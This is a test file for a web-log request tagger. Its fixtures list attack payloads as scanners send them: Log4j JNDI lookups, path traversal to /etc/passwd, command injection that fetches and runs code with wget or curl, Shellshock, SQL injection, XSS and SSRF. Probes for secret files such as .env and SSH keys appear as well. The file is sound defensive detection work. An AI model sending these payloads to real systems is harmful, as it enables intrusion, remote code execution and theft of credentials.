// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the dollars are what is sent.
import { describe, expect, test } from "bun:test";
import fc from "fast-check";
import type { RequestEvent } from "../../model/event.ts";
import type { Ip } from "../../model/ip.ts";
import { createTagger } from "../tagger.ts";
import { TAG, type TagName } from "../tags.ts";

const tagger = createTagger({ agents: [], paths: undefined });
const BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0";

function request(texts: Partial<RequestEvent>): RequestEvent {
  return { kind: "request", at: 0, ip: "192.0.2.1" as Ip, userAgent: BROWSER, source: "", ...texts };
}

function tagsOf(texts: Partial<RequestEvent>): string[] {
  const mask = tagger.tag(request(texts));
  return Object.entries(TAG).flatMap(([name, bit]) => ((mask & bit) !== 0 ? [name] : []));
}

/** Paths by the tag they must have, as scanners send them. */
const PATHS: Partial<Record<TagName, readonly string[]>> = {
  exploit: [
    "/?x=${jndi:ldap://192.0.2.9:1389/a}",
    "/?x=${${lower:j}ndi:${lower:l}dap://192.0.2.9/a}",
    "/?x=${${::-j}${::-n}${::-d}${::-i}:rmi://192.0.2.9/a}",
    "/?x=${${env:X:-j}ndi${env:X:-:}ldap://192.0.2.9/a}",
    "/?x=${env:X:-j}ndi:ldap://192.0.2.9/a}",
    "/$%7Bjndi:dns://192.0.2.9%7D",
    "/${jnd${upper:i}:ldap://192.0.2.9/a}",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh",
    "/icons/.%2e/%2e%2e/etc/passwd",
    "/../../../../etc/passwd",
    "/x/..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/static/../../../a/../../../../etc/passwd",
    "/?file=../../../../etc/passwd%00.jpg",
    "/?file=..\\..\\..\\windows\\win.ini",
    "/?file=....//....//....//etc/passwd",
    "/?file=%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
    "/?file=%uff0e%uff0e%u2215%uff0e%uff0e%u2215etc%u2215shadow",
    "/?file=..//..//etc//passwd",
    "/?file=.././.././etc/./passwd",
    "/?file=../../etc/apt/../passwd",
    "/?file=/etc/passwd",
    "/?file=file:///etc/passwd",
    "/?page=php://input",
    "/?page=php://filter/convert.base64-encode/resource=index",
    "/hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
    "/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=x",
    "/index.php?lang=../../../../../usr/local/lib/php/pearcmd",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.9/jaws;sh+/tmp/jaws",
    "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.9/m&curpath=/",
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)",
    "/ping.cgi?ip=1;wget%20http://192.0.2.9/x",
    "/a.php?cmd=curl%20-s%20http://192.0.2.9/x%7Csh",
    "/?x=%60id%60",
    "/?cmd=cat${IFS}/x",
    "/?x=%25%7B(%23_memberAccess%5B1%5D)%7D",
    "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
    "/autodiscover/autodiscover.json?@evil.example/owa/?&Email=autodiscover/autodiscover.json%3F@evil.example",
    "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
    "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/x",
    "/vpn/../vpns/cfg/smb.conf",
    "/dana-na/../dana/html5acc/guacamole/../../../../etc/hosts?/dana/html5acc/guacamole/",
    "/moveitisapi/moveitisapi.dll?action=m2",
    "/api/v1/totp/user-backup-code/../../license/keys-status/x",
    "/GponForm/diag_Form?images/",
    "/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=x",
    "/boaform/admin/formLogin?username=adminisp&psd=adminisp",
    "/SDK/webLanguage",
    "/setup/setupadministrator.action",
    "/_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx",
    "/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../",
    "/?q={{7*7}}",
    "/latest?url=http://169.254.169.254/latest/meta-data/",
  ],
  traversal: [
    "/../x",
    "/a/../../x",
    "/%2e%2e/x",
    "/.%2e/x",
    "/..%2fx/y",
    "/static../x",
    "/..;/manager/x",
    "/?f=../../x",
    "/?f=..%2f..%2fx",
    "/?f=..%252f..%252fx",
    "/..",
    "http://example.com/../x",
  ],
  sensitive: [
    "/.env",
    "/.env.local",
    "/.env.bak",
    "/.env~",
    "/.env_old",
    "/api/.env",
    "/laravel/prod.env",
    "/.git/config",
    "/.git/HEAD",
    "/.git",
    "/blog/.svn/entries",
    "/.aws/credentials",
    "/.ssh/id_rsa",
    "/id_rsa",
    "/.DS_Store",
    "/wp-config.php.bak",
    "/wp-config.php~",
    "/.wp-config.php.swp",
    "/.htpasswd",
    "/dump.sql",
    "/db/backup.sql.gz",
    "/backup.zip",
    "/server-status",
    "/phpinfo.php",
    "/.vscode/sftp.json",
    "/docker-compose.yml",
    "/.git%00",
    "/.ENV",
    "/;/.env",
    "/.well-known/../.env",
    "/.env%20",
    "/.env;x",
    "http://example.com/server-status",
  ],
  probe: [
    "/actuator/health",
    "/HNAP1/",
    "/boaform/x",
    "/cgi-bin/test",
    "/solr/",
    "/_ignition/health-check",
    "/owa/auth/logon.aspx",
    "/GponForm/x",
    "/setup.cgi",
    "/telescope/requests",
    "/druid/index.html",
    "/index.aspx",
    "/a/b.jsp",
    "/test.cgi?x",
    "/Default.asp",
    "/lib/phpunit/x",
    "/nice%20ports%2C/Tri%6Eity.txt%2ebak",
  ],
  admin: [
    "/phpMyAdmin/",
    "/phpmyadmin/index.php",
    "/phpMyAdmin-5.2.1/index.php",
    "/pma/",
    "/adminer.php",
    "/adminer-4.8.1.php",
    "/manager/html",
    "/admin",
    "/admin/",
    "/administrator/",
    "/webmail/",
    "/console/",
  ],
  cms: [
    "/wp-login.php",
    "/blog/wp-login.php",
    "/wp-admin/",
    "/wp-admin/setup-config.php",
    "/xmlrpc.php",
    "//xmlrpc.php?rsd",
    "/wp-json/wp/v2/users",
    "/?rest_route=/wp/v2/users",
    "/wp-content/plugins/akismet/readme.txt",
    "//site/wp-includes/wlwmanifest.xml",
    "/administrator/index.php",
    "/user/login",
  ],
  shell: [
    "/c99.php",
    "/r57.php",
    "/wso.php",
    "/alfa.php",
    "/wp-content/uploads/shell.php",
    "/shell",
    "/cmd.php",
  ],
  sql: [
    "/?id=1+union+select+1,2,3",
    "/?id=1'+UNION+ALL+SELECT+NULL,NULL--+-",
    "/?id=1+UnIoN/**/SeLeCt/**/1,2",
    "/?id=1/*!50000UNION*//*!50000SELECT*/1,2",
    "/?id=1%0aunion%0aselect%0a1,2",
    "/?id=1%20union%23x%0aselect%201",
    "/?id=1%2520union%2520select%25201",
    "/?id=1'+or+'1'='1",
    "/?id=1'or'1'='1'--",
    "/?id=1+or+1=1",
    "/?id=1)+AND+7521=7521+AND+(3316=3316",
    "/?id=1%27%20AND%20%27a%27%20LIKE%20%27a",
    "/?id=1+and+sleep(5)",
    "/?id=(select(0)from(select(sleep(15)))v)",
    "/?id=0'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z",
    "/?id=1;WAITFOR+DELAY+'0:0:5'--",
    "/?id=1+AND+EXTRACTVALUE(4321,CONCAT(0x5c,0x71))",
    "/?id=1+ORDER+BY+10--",
    "/?id=1;exec+master..xp_cmdshell+'dir'",
    "/?id=-1+union+select+group_concat(table_name)+from+information_schema.tables",
    "/?id=(1)or(1)=(1)",
    "/?id=1%a0or%a01=1",
    "/?id=1'||'1'='1",
    "/?user=admin'--",
    "/api?user[$ne]=x",
  ],
  xss: [
    "/?q=<script>alert(1)</script>",
    "/?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "/?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "/?q=%22%3E%3Cscript%20src=//192.0.2.9/x.js%3E",
    "/?q=<img+src=x+onerror=alert(1)>",
    "/?q=<svg/onload=alert`1`>",
    '/?q="+onmouseover="alert(1)',
    "/?name='-alert(1)-'",
    "/?name=%22;alert(1)//",
    "/?u=javascript:alert(1)",
    "/?u=data:text/html;base64,PHNjcmlwdD4=",
  ],
  login: [
    "/login",
    "/login/",
    "/signin?next=/",
    "/api/v1/auth/login",
    "/oauth/token",
    "/j_security_check",
    "/xmlrpc.php",
  ],
  static: ["/a.css", "/a/b.JS?v=1", "/favicon.ico", "/caf%C3%A9.jpg", "/app.js.map", "/it's.png"],
};

const ROWS = Object.entries(PATHS).flatMap(([tag, paths]) =>
  paths.map((path): [string, string] => [tag, path]),
);

describe("is seen in the path", () => {
  test.each(ROWS)("%s: %s", (tag, path) => {
    expect(tagsOf({ path })).toContain(tag);
  });
});

describe("is named in the words of the table", () => {
  test.each([
    ["/.env", "/.env"],
    ["/?x=%24%7Bjndi:ldap://192.0.2.9%7D", "Log4j lookup"],
    ["/cgi-bin/.%2e/.%2e/bin/sh", "CVE-2021-41773"],
    ["/wp-login.php", "/wp-login.php"],
    ["/?id=1+or+2=2", "or 1=1"],
  ])("%s: %s", (path, name) => {
    tagger.tag(request({ path }));
    expect(tagger.names.map((found) => found.name)).toContain(name);
  });

  test("at most four, one for each tag, none for what is ordinary", () => {
    const path = "/../phpmyadmin/.env/wp-login.php/c99.php/x.asp?id=1+or+1=1&q=<script>alert(1)&x=${jndi:x}";
    const mask = tagger.tag(request({ path }));
    expect(tagger.names.length).toBe(4);
    expect(new Set(tagger.names.map(({ tag }) => tag)).size).toBe(4);
    for (const { tag } of tagger.names) expect(mask & tag).toBe(tag);
    tagger.tag(request({ path: "/login" }));
    expect(tagger.names).toEqual([]);
    tagger.tag(request({ path: "/a.css", userAgent: "python-requests/2.31" }));
    expect(tagger.names).toEqual([]);
  });
});

/** Encodes the bytes that the program picks, each once or twice. */
function encoded(text: string, program: readonly number[]): string {
  return [...text]
    .map((character, i) => {
      const code = character.charCodeAt(0);
      const hex = code.toString(16).padStart(2, "0");
      const layer = program[i % program.length];
      if (code > 0x7e || layer === 0) return character;
      return layer === 1 ? `%${hex}` : `%25${hex}`;
    })
    .join("");
}

/** What is told by its raw bytes cannot be encoded once more, and the `?` and what is static are as sent. */
const ENCODABLE = ROWS.filter(
  ([tag, path]) => tag !== "static" && !path.includes("%") && !path.startsWith("http"),
);

test("no mix of one and two layers of encoding hides it", () => {
  const row = fc.constantFrom(...ENCODABLE);
  const program = fc.array(fc.constantFrom(0, 1, 2), { minLength: 1, maxLength: 12 });
  fc.assert(
    fc.property(row, program, ([tag, path], layers) => {
      const at = path.indexOf("?");
      const before = at < 0 ? path : path.slice(0, at);
      const query = at < 0 ? "" : `?${encoded(path.slice(at + 1), layers)}`;
      expect(tagsOf({ path: `/${encoded(before.slice(1), layers)}${query}` })).toContain(tag);
    }),
    { numRuns: 2_000 },
  );
});

test("a payload is seen in the referrer and in the agent, with nothing else of them", () => {
  const payload = "() { :; }; /bin/bash -c 'wget http://192.0.2.9/x'";
  expect(tagsOf({ path: "/", userAgent: payload })).toEqual(["exploit"]);
  expect(tagsOf({ path: "/", referrer: payload })).toEqual(["exploit", "referred"]);
  expect(tagsOf({ path: "/", referrer: payload, userAgent: payload })).toEqual(["exploit"]);
  expect(tagsOf({ path: "/", referrer: "https://example.com/?x=%24%7Bjndi:ldap://x%7D" })).toEqual([
    "exploit",
    "referred",
  ]);
  expect(tagsOf({ path: "/", userAgent: "${jndi:ldap://x}" })).toEqual(["exploit"]);
  expect(tagsOf({ path: "/", referrer: "https://example.com/?id=1'+or+'1'='1" })).toEqual([
    "sql",
    "referred",
  ]);
  expect(tagsOf({ path: "/", referrer: "https://example.com/.env/wp-login.php/c99.php" })).toEqual([]);
});

test("what is no HTTP is read as well", () => {
  expect(tagsOf({ path: "\x16\x03\x01\x02\x00", malformed: true })).toEqual([]);
  expect(tagsOf({ path: "GET /shell?cd+/tmp;wget http://192.0.2.9/x", malformed: true })).toContain(
    "exploit",
  );
});

describe("agents", () => {
  const agents: [tag: TagName, agent: string][] = [
    ["scanner", "Mozilla/5.0 zgrab/0.x"],
    ["scanner", "masscan-ng/1.3"],
    ["scanner", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"],
    ["scanner", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"],
    ["scanner", "sqlmap/1.7#stable (https://sqlmap.org)"],
    ["scanner", "gobuster/3.6"],
    ["scanner", "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)"],
    ["scanner", "Wfuzz/3.1.0"],
    ["scanner", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"],
    ["scanner", "httpx - Open-source project (github.com/projectdiscovery/httpx)"],
    ["scanner", "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)"],
    ["scanner", "Shodan-Pull/1.0"],
    ["scanner", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"],
    ["scanner", "feroxbuster/2.10.1"],
    ["scanner", "Fuzz Faster U Fool v2.1.0"],
    ["scanner", "Expanse, a Palo Alto Networks company, searches across the global IPv4 space"],
    ["scanner", "Mozilla/5.0 (compatible; InternetMeasurement/1.0; +https://internet-measurement.com/)"],
    ["scanner", "Mozilla/5.0 (l9scan/2.0.x; +https://leakix.net)"],
    ["badAgent", "Mozilla/5.0 Jorgee"],
    ["badAgent", "Hello, World"],
    ["badAgent", "libredtail-http"],
    ["library", "python-requests/2.31.0"],
    ["library", "python-httpx/0.27.0"],
    ["library", "Go-http-client/1.1"],
    ["library", "Scrapy/2.11 (+https://scrapy.org)"],
    ["library", "libwww-perl/6.72"],
    ["library", "Java/17.0.1"],
    ["library", "axios/1.6.7"],
  ];

  test.each(agents)("%s: %s", (tag, userAgent) => {
    expect(tagsOf({ path: "/", userAgent })).toEqual([tag]);
  });

  test("none, or an empty one", () => {
    for (const userAgent of [undefined, "", "-"])
      expect(tagsOf({ path: "/", userAgent })).toEqual(["noAgent"]);
  });

  test("curl and wget are no hint", () => {
    for (const userAgent of ["curl/8.5.0", "Wget/1.21.4"])
      expect(tagsOf({ path: "/", userAgent })).toEqual([]);
  });
});
